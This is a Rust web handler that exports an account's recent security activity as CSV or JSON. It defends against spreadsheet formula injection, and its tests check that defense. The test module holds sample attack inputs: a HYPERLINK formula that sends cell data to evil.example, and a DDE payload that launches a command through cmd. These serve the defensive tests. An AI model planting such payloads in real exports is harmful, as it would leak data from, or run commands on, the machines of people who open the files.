//! `/settings/security/activity.csv` and `.json`: Recent security activity as a download, the
//! events the page lists (the same filter, every page), for the signed-in account only.
use std::collections::HashMap;

use app::server::CurrentSession;
use axum::extract::{Path, Query, State};
use axum::http::{header, HeaderValue, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::Extension;
use domain::auth::activity::Activity;
use serde::Serialize;
use time::format_description::well_known::Rfc3339;

use crate::AppState;

/// One event in a download (the columns of the CSV, the objects of the JSON).
#[derive(Serialize)]
struct Row<'a> {
    time: String,
    kind: &'a str,
    description: &'a str,
    device: &'a str,
    location: &'a str,
    ip: &'a str,
    user_agent: &'a str,
}

impl<'a> Row<'a> {
    fn of(a: &'a Activity) -> Self {
        Row {
            time: a.at.format(&Rfc3339).unwrap_or_default(),
            kind: a.kind.as_str(),
            description: &a.sentence,
            device: &a.device,
            location: a.location.as_deref().unwrap_or("Unknown"),
            ip: a.ip.as_deref().unwrap_or("unknown"),
            user_agent: a.user_agent.as_deref().unwrap_or(""),
        }
    }
}

#[derive(Serialize)]
struct JsonExport<'a> {
    generated_at: String,
    days: i64,
    filter: &'a str,
    events: Vec<Row<'a>>,
}

/// What makes a spreadsheet cell a formula when it starts one.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A spreadsheet would run a cell that starts with = + - @ (or a tab or return) as a formula; such
/// cells (a user agent or a location anyone can send) start with an apostrophe instead (OWASP, CSV
/// injection). A spreadsheet may also cut a line at characters this file does not quote: a
/// semicolon (the list separator of Excel in German, French, Spanish… locales) or a tab. So where
/// one of those, or a comma or line break, is followed by a formula's start, a space goes between:
/// the piece a spreadsheet cuts off there starts with a space, which is text. (A user agent's
/// usual "; " and ", " are left as they are.)
fn cell(value: &str) -> String {
    let mut out = String::with_capacity(value.len() + 1);
    if value.starts_with(FORMULA_START) {
        out.push('\'');
    }
    let mut after_separator = false;
    for c in value.chars() {
        if after_separator && FORMULA_START.contains(&c) {
            out.push(' ');
        }
        out.push(c);
        // (a quote after a separator does not end it: a spreadsheet drops it from the piece)
        after_separator = matches!(c, ';' | ',' | '\t' | '\r' | '\n') || (after_separator && c == '"');
    }
    out
}

fn csv(events: &[Activity]) -> Result<Vec<u8>, csv::Error> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["time", "kind", "description", "device", "location", "ip", "user_agent"])?;
    for a in events {
        let r = Row::of(a);
        w.write_record([r.time.as_str(), r.kind, &cell(r.description), &cell(r.device), &cell(r.location), &cell(r.ip), &cell(r.user_agent)])?;
    }
    w.into_inner().map_err(|e| e.into_error().into())
}

pub async fn download(
    State(state): State<AppState>,
    Path(file): Path<String>,
    Query(query): Query<HashMap<String, String>>,
    Extension(CurrentSession(session)): Extension<CurrentSession>,
    headers: axum::http::HeaderMap,
) -> Response {
    let Some(session) = session else {
        return (StatusCode::UNAUTHORIZED, "Sign in to download your security activity.").into_response();
    };
    // Only the site's own pages (or the address typed) download it: another site's link (an
    // email's, say) gets the page. A file of the owner's activity from the genuine site is
    // trusted, and a stranger's failed sign-in writes its user agent into it.
    if headers.get("sec-fetch-site").is_some_and(|v| v != "same-origin" && v != "none") {
        return (StatusCode::SEE_OTHER, [(header::LOCATION, HeaderValue::from_static(app::nav::HOME))]).into_response();
    }
    let format = match file.as_str() {
        "activity.csv" => "csv",
        "activity.json" => "json",
        _ => return (StatusCode::NOT_FOUND, "Not found").into_response(),
    };
    let filter_text = query.get("filter").map(String::as_str).unwrap_or("");
    let Ok(filter) = app::security::activity::parse_filter(filter_text) else {
        return (StatusCode::BAD_REQUEST, "Choose one of the listed kinds of activity.").into_response();
    };
    let svc = &state.services;
    let events = match domain::auth::activity::export(svc, &session, filter).await {
        Ok(events) => events,
        Err(e) => {
            let reference = uuid::Uuid::new_v4().simple().to_string()[..12].to_string();
            tracing::error!(reference = %reference, error = %e, "activity export failed");
            return (StatusCode::SERVICE_UNAVAILABLE, format!("Your activity could not be downloaded just now. Try again in a moment. (Reference {reference})"))
                .into_response();
        }
    };
    let now = svc.clock.now();
    let date = format!("{}-{:02}-{:02}", now.year(), u8::from(now.month()), now.day());
    let (body, content_type) = match format {
        "csv" => match csv(&events) {
            Ok(body) => (body, "text/csv; charset=utf-8"),
            Err(e) => {
                tracing::error!(error = %e, "activity CSV failed");
                return StatusCode::INTERNAL_SERVER_ERROR.into_response();
            }
        },
        _ => {
            let export = JsonExport {
                generated_at: now.format(&Rfc3339).unwrap_or_default(),
                days: domain::auth::activity::ACTIVITY_DAYS,
                filter: if filter.is_some() { filter_text } else { "" },
                events: events.iter().map(Row::of).collect(),
            };
            (serde_json::to_vec_pretty(&export).unwrap_or_default(), "application/json")
        }
    };
    let disposition = format!("attachment; filename=\"gatehouse-security-activity-{date}.{format}\"");
    let mut res = body.into_response();
    let h = res.headers_mut();
    h.insert(header::CONTENT_TYPE, HeaderValue::from_static(content_type));
    if let Ok(v) = HeaderValue::from_str(&disposition) {
        h.insert(header::CONTENT_DISPOSITION, v);
    }
    res
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_a_spreadsheet_would_run_as_formulas_are_defused() {
        assert_eq!(cell("=HYPERLINK(\"http://x\")"), "'=HYPERLINK(\"http://x\")");
        assert_eq!(cell("@SUM(1)"), "'@SUM(1)");
        assert_eq!(cell("Chrome 131 on Windows 10"), "Chrome 131 on Windows 10");
    }

    /// A stranger's failed sign-in puts their user agent in the owner's download: cut at a
    /// semicolon (Excel in a German or French locale) or a tab, no piece may start a formula.
    #[test]
    fn no_piece_a_spreadsheet_cuts_at_a_semicolon_or_tab_starts_a_formula() {
        let ua = "Mozilla/5.0 ;=HYPERLINK(\"http://evil.example/?\"&A2);\t+1;-1,@SUM(1)\n=2;\"=3;\"\"+4";
        let activity = domain::auth::activity::Activity {
            id: uuid::Uuid::nil(),
            kind: domain::kinds::EventKind::SignInFailed,
            sentence: "Failed sign-in: wrong password".into(),
            at: time::OffsetDateTime::UNIX_EPOCH,
            device: "Unknown browser on Unknown OS".into(),
            user_agent: Some(ua.into()),
            location: Some("Lisbon;=cmd|' /C calc'!A0".into()),
            ip: Some("203.0.113.77".into()),
        };
        let body = String::from_utf8(csv(&[activity]).unwrap()).unwrap();
        for piece in body.split([';', '\t', ',', '\n', '\r']) {
            let piece = piece.trim_start_matches('"');
            assert!(!piece.starts_with(FORMULA_START), "{piece:?} in {body:?}");
        }
        // the usual user agent reads as sent
        assert_eq!(cell("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"),
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)");
        assert_eq!(cell("a;=1"), "a; =1");
        assert_eq!(cell("x;\"=1"), "x;\" =1");
    }
}
